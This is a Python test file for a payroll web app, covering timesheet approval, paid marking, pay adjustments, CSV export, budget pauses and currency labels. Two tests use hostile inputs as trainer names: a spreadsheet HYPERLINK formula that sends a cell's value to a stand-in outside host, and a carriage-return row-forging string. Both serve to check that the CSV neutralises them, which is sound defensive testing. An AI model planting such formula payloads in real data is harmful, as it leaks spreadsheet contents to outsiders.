"""Payroll and earnings over HTTP: approve, mark paid, adjust, CSV; a budget that runs out says why."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pandas as pd
from sqlalchemy import select

from app.models import PayAdjustment, Project, Timesheet, utcnow
from app.services import assignment as queue
from app.services import pay
from tests.conftest import csrf_token, login
from tests.factories import PASSWORD, make_label_project, make_user


def _setup(session, budget=None):
    admin, trainer = make_user(session, "admin"), make_user(session, "trainer", name="Tess Trainer")
    project = make_label_project(session, items=4, trainers=[trainer], slug="paid-work")
    project.hourly_rate_cents, project.budget_cents = 3600, budget
    session.commit()
    return admin, trainer, project


def _work(session, trainer, project, seconds):
    a = queue.next_task(session, trainer.id, project)
    a.active_seconds = seconds
    session.commit()
    queue.submit(session, a.id, trainer.id, {"label": "yes"})


def test_payroll_approve_mark_paid_and_csv(client, session):
    admin, trainer, project = _setup(session)
    _work(session, trainer, project, 600)
    login(client, admin.email, PASSWORD)
    week = pay.week_label(pay.week_of(utcnow()))
    page = client.get("/admin/payroll").get_data(as_text=True)
    assert "Tess Trainer" in page and "6.00" in page
    assert '<td class="num">0:10:00</td>' in page  # the time, exact to the second, beside its amount
    token = csrf_token(client, "/admin/payroll")
    response = client.post("/admin/payroll/approve", data={"csrf_token": token, "week": week,
                                                            "line": f"{trainer.id}:{project.id}"})
    assert response.status_code == 303
    session.rollback()  # see what the requests committed
    sheet = session.scalar(select(Timesheet))
    assert (sheet.status, sheet.amount_cents, sheet.approved_by) == ("approved", 600, admin.id)
    response = client.post("/admin/payroll/paid", data={"csrf_token": token, "week": week, "timesheet": sheet.id,
                                                         "reference": ""})
    assert response.status_code == 303
    assert "payment reference" in client.get(response.headers["Location"]).get_data(as_text=True)
    client.post("/admin/payroll/paid", data={"csrf_token": token, "week": week, "timesheet": sheet.id,
                                             "reference": "TX-1"})
    session.rollback()
    assert (sheet.status, sheet.paid_reference) == ("paid", "TX-1")
    download = client.get(f"/admin/payroll.csv?week={week}")
    rows = list(csv.DictReader(io.StringIO(download.get_data(as_text=True))))
    assert download.mimetype == "text/csv" and rows == [{
        "week": week, "trainer_email": trainer.email, "trainer_name": "Tess Trainer", "project": "paid-work",
        "billable_seconds": "600", "billable_hours": "0.1667", "rate": "36.00", "amount": "6.00", "adjustments": "0.00",
        "total": "6.00", "status": "paid", "paid_reference": "TX-1"}]
    assert client.get("/admin/payroll?week=someday").status_code == 422


def test_a_carriage_return_in_a_name_stays_inside_its_cell(client, session):
    """A name from before names were checked may hold a lone CR: the CSV quotes it, so no reader ends
    the row there and starts a forged one (with a formula) from the rest."""
    admin, trainer, project = _setup(session)
    trainer.name = "Mallory\r=2+3"
    session.commit()
    _work(session, trainer, project, 600)
    login(client, admin.email, PASSWORD)
    body = client.get(f"/admin/payroll.csv?week={pay.week_label(pay.week_of(utcnow()))}").get_data()
    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert len(rows) == 2 and rows[1][2] == "Mallory\r=2+3"
    assert pd.read_csv(io.BytesIO(body), keep_default_na=False)["trainer_name"].tolist() == ["Mallory\r=2+3"]


def test_adjustment_form_checks_its_input(client, session):
    admin, trainer, project = _setup(session)
    _work(session, trainer, project, 600)  # 6.00 earned: a correction may take back up to that
    login(client, admin.email, PASSWORD)
    token = csrf_token(client, "/admin/payroll")
    bad = client.post("/admin/payroll/adjust", data={"csrf_token": token, "trainer": trainer.id,
                                                     "adjust_project": project.id, "amount": "12.345", "reason": ""})
    assert bad.status_code == 422 and "at most two decimals" in bad.get_data(as_text=True)
    session.rollback()
    assert session.scalar(select(PayAdjustment)) is None
    # what was typed is still there, and the error names the field as its label does
    kept = client.post("/admin/payroll/adjust", data={"csrf_token": token, "trainer": trainer.id, "kind": "correction",
                                                      "adjust_project": project.id, "amount": "-7", "reason": "Late"})
    page = kept.get_data(as_text=True)
    assert kept.status_code == 422 and "<strong>Amount</strong>:" in page
    assert f'<option value="{trainer.id}" selected>' in page and f'<option value="{project.id}" selected>' in page
    assert '<option value="correction" selected>' in page
    assert 'value="-7"' in page and 'value="Late"' in page
    ok = client.post("/admin/payroll/adjust", data={"csrf_token": token, "trainer": trainer.id,
                                                    "adjust_project": project.id, "amount": "-2.50",
                                                    "reason": "Overpaid last week", "kind": "correction"})
    assert ok.status_code == 303
    session.rollback()
    assert session.scalar(select(PayAdjustment.amount_cents)) == -250


def test_earnings_page_shows_live_pay_after_each_submit(client, session):
    _admin, trainer, project = _setup(session)
    login(client, trainer.email, PASSWORD)
    assert 'data-testid="no-earnings"' in client.get("/work/earnings").get_data(as_text=True)
    _work(session, trainer, project, 900)
    page = client.get("/work/earnings").get_data(as_text=True)
    assert 'data-testid="this-week">9.00<' in page and "pending" in page


def test_a_used_up_budget_pauses_the_project_and_tells_the_trainer(client, session):
    _admin, trainer, project = _setup(session, budget=500)  # 5.00 = 500 s at 36.00/h
    _work(session, trainer, project, 600)
    session.refresh(project)
    assert project.status == "paused"
    login(client, trainer.email, PASSWORD)
    listing = client.get("/work/").get_data(as_text=True)
    assert "This project is paused: its budget is used up (6.00 of 5.00)" in listing
    task = client.get("/work/paid-work").get_data(as_text=True)
    assert "its budget is used up" in task and 'data-testid="queue-empty"' in task


def test_trainers_cannot_see_payroll(client, session):
    _admin, trainer, _project = _setup(session)
    login(client, trainer.email, PASSWORD)
    assert client.get("/admin/payroll").status_code == 403
    assert client.get("/admin/payroll.csv").status_code == 403


def test_payroll_of_a_past_week_is_reachable_by_date(client, session):
    admin, _trainer, _project = _setup(session)
    login(client, admin.email, PASSWORD)
    last_week = pay.week_of(utcnow()) - timedelta(days=7)
    page = client.get(f"/admin/payroll?week={last_week.isoformat()}").get_data(as_text=True)
    assert pay.week_label(last_week) in page and 'data-testid="no-timesheets"' in page
    assert session.scalar(select(Project.id)) is not None


def test_project_form_sets_the_quality_bonus_and_budget_pause(client, session):
    from tests.web.test_admin_projects import project_form

    admin, _trainer, project = _setup(session)
    login(client, admin.email, PASSWORD)
    token = csrf_token(client, f"/admin/projects/{project.slug}/edit")
    form = {**project_form(name=project.name, slug=project.slug), "csrf_token": token,
            "q-0-key": "label", "q-0-type": "label", "q-0-title": "Label?", "q-0-labels": "yes\nno",
            "quality_bonus_percent": "10", "quality_bonus_min_accuracy": "90", "budget": "100.00"}
    for key in [k for k in form if k.startswith("q-1-")]:
        del form[key]
    half = client.post(f"/admin/projects/{project.slug}/edit", data={**form, "quality_bonus_min_accuracy": ""})
    assert half.status_code == 422 and "give both the bonus" in half.get_data(as_text=True)
    response = client.post(f"/admin/projects/{project.slug}/edit", data=form)
    assert response.status_code == 302 and response.headers["Location"].endswith(project.slug), response.headers
    session.rollback()
    saved = session.get(Project, project.id)
    session.refresh(saved)
    assert (saved.quality_bonus_percent, saved.quality_bonus_min_accuracy, saved.pause_at_budget) == (10, 0.9, False)
    assert saved.budget_cents == 10000


def test_amounts_say_their_currency(app, client, session):
    """Every page with pay or budget figures names the installation's currency (CURRENCY)."""
    admin, trainer, project = _setup(session, budget=100_00)
    _work(session, trainer, project, 900)
    app.jinja_env.globals["currency"] = "EUR"  # as create_app sets it from CURRENCY=EUR
    login(client, trainer.email, PASSWORD)
    earnings = client.get("/work/earnings").get_data(as_text=True)
    assert 'data-testid="currency">EUR<' in earnings and "EUR/h" in earnings
    staff = app.test_client()
    login(staff, admin.email, PASSWORD)
    payroll = staff.get("/admin/payroll", follow_redirects=True).get_data(as_text=True)
    assert 'data-testid="currency">EUR<' in payroll and "Budget (EUR)" in payroll
    assert "Hourly rate <small class=\"muted\">(EUR)</small>" in staff.get(
        f"/admin/projects/{project.slug}/edit").get_data(as_text=True)


def test_the_approval_message_totals_what_the_table_does_adjustments_included(client, session):
    admin, trainer, project = _setup(session)
    _work(session, trainer, project, 600)
    pay.add_adjustment(session, trainer.id, project.id, 15_00, "Bonus for the hard batch", admin.id)
    login(client, admin.email, PASSWORD)
    week = pay.week_label(pay.week_of(utcnow()))
    token = csrf_token(client, "/admin/payroll")
    response = client.post("/admin/payroll/approve", data={"csrf_token": token, "week": week,
                                                            "line": f"{trainer.id}:{project.id}"})
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Approved 1 timesheet(s) of " + week + ": 21.00 (6.00 for the time, 15.00 in adjustments)" in page


def test_both_pay_pages_name_an_unapproved_week_alike(client, session):
    """The payroll and the earnings page call a week not yet approved by one word, the payroll's
    status filter included (its value stays the stored status)."""
    admin, trainer, project = _setup(session)
    _work(session, trainer, project, 600)

    def status_tags(page):
        return re.findall(r'<span class="tag tag-\w+">([^<]*)</span>', page)

    login(client, admin.email, PASSWORD)
    payroll = client.get("/admin/payroll?status=open").get_data(as_text=True)
    assert status_tags(payroll) == ["pending"]
    options = re.findall(r'<option value="(\w+)" ?(selected)?>([^<]*)</option>', payroll)
    assert options[:3] == [("open", "selected", "pending"), ("approved", "", "approved"), ("paid", "", "paid")]
    other = client.application.test_client()
    login(other, trainer.email, PASSWORD)
    assert status_tags(other.get("/work/earnings").get_data(as_text=True)) == ["pending"]


def test_the_payroll_csv_makes_formula_text_plain_text_whatever_the_column_type(client, session):
    """A trainer's name (or e-mail, or a project's slug) starting with = or @ reaches the payroll CSV,
    which people open in a spreadsheet: every such text cell starts with an apostrophe (pandas types
    text columns as ``str`` since version 3, not ``object``)."""
    _admin, trainer, project = _setup(session)
    trainer.name = '=HYPERLINK("https://x.example/?"&A1,"pay")'
    session.commit()
    _work(session, trainer, project, 600)
    admin = make_user(session, "admin")
    login(client, admin.email, PASSWORD)
    week = pay.week_label(pay.week_of(utcnow()))
    rows = list(csv.DictReader(io.StringIO(client.get(f"/admin/payroll.csv?week={week}").get_data(as_text=True))))
    assert rows[0]["trainer_name"] == "'" + trainer.name
    assert all(not str(v).startswith(("=", "+", "@")) for row in rows for v in row.values())
    assert rows[0]["amount"] == "6.00"  # numbers stay numbers


def test_an_adjustment_after_the_week_was_approved_is_said_and_shown_where_it_went(client, session):
    """This week approved already: the money goes to the next week, and the message and the page it lands
    on name that week, where the adjustment is."""
    admin, trainer, project = _setup(session)
    _work(session, trainer, project, 600)
    login(client, admin.email, PASSWORD)
    now_week = pay.week_of(utcnow())
    token = csrf_token(client, "/admin/payroll")
    client.post("/admin/payroll/approve", data={"csrf_token": token, "week": pay.week_label(now_week),
                                                "line": f"{trainer.id}:{project.id}"})
    added = client.post("/admin/payroll/adjust", data={"csrf_token": token, "trainer": trainer.id,
                                                       "adjust_project": project.id, "amount": "3.00",
                                                       "reason": "Late bonus", "kind": "bonus"})
    next_week = pay.week_label(now_week + timedelta(days=7))
    assert added.status_code == 303 and f"week={next_week}" in added.headers["Location"]
    page = client.get(added.headers["Location"]).get_data(as_text=True)
    assert f"Adjustment added to {next_week}" in page and "3.00" in page
    session.rollback()
    assert session.scalar(select(PayAdjustment.week_start)) == now_week + timedelta(days=7)
